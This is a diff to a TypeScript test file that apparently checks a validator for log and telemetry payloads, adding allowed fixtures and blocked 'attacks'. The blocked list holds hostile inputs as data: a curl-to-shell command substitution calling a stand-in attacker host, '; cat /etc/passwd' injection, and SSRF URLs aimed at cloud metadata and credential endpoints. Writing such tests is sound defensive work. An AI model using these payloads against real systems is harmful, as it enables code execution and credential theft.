@@ -21,6 +21,12 @@ const attribute = (key: string, stringValue: string) => ({
   resourceLogs: [{ resource: { attributes: [{ key, value: { stringValue } }] } }],
 });
 
+const called = (stringValue: string) => ({
+  resourceSpans: [
+    { scopeSpans: [{ spans: [{ attributes: [{ key: 'url.full', value: { stringValue } }] }] }] },
+  ],
+});
+
 const ships: readonly unknown[] = [
   { log: { file: { path: '/var/log/auth.log' } }, message: 'x' },
   { streams: [{ stream: { filename: '/var/log/syslog' }, values: [['1', 'x']] }] },
@@ -39,6 +45,10 @@ const ships: readonly unknown[] = [
   { logGroupName: '/var/log/messages', logEvents: [{ timestamp: 1, message: 'x' }] },
   { fs: [{ mnt_point: '/proc/fs/nfsd', device_name: '/dev/mapper/vg-root' }] },
   { process: { command_line: '/bin/sh -c "ls -la"' } },
+  { history: [{ created_by: '/bin/sh -c #(nop) ADD file:0d7e8c in / ' }] },
+  { history: [{ created_by: '/bin/sh -c apt-get update && apt-get install -y curl' }] },
+  called('http://169.254.170.2/v2/credentials/5f2b8c7d'),
+  called('169.254.169.254'),
 ];
 
 test('the logs and mounts that shippers and agents tell of pass, under the names they give them', () => {
@@ -77,6 +87,13 @@ const attacks: readonly unknown[] = [
   attribute('x', '$(curl http://c.attacker.test/a|sh)'),
   { value: { stringValue: '/var/log/auth.log' } },
   { process: { command_line: 'x; cat /etc/passwd' } },
+  { history: [{ created_by: ';cat /etc/passwd' }] },
+  { created_by: '/bin/sh -c apt-get update && apt-get install -y curl' },
+  { url: 'http://169.254.170.2/v2/credentials/5f2b8c7d' },
+  { value: { stringValue: 'http://169.254.169.254/latest/meta-data/' } },
+  called('gopher://169.254.169.254/_x'),
+  called('x http://169.254.169.254/latest/meta-data/'),
+  called('file:///etc/passwd'),
 ];
 
 test('files that only an attacker names, what climbs, and logs anywhere else are blocked as before', () => {
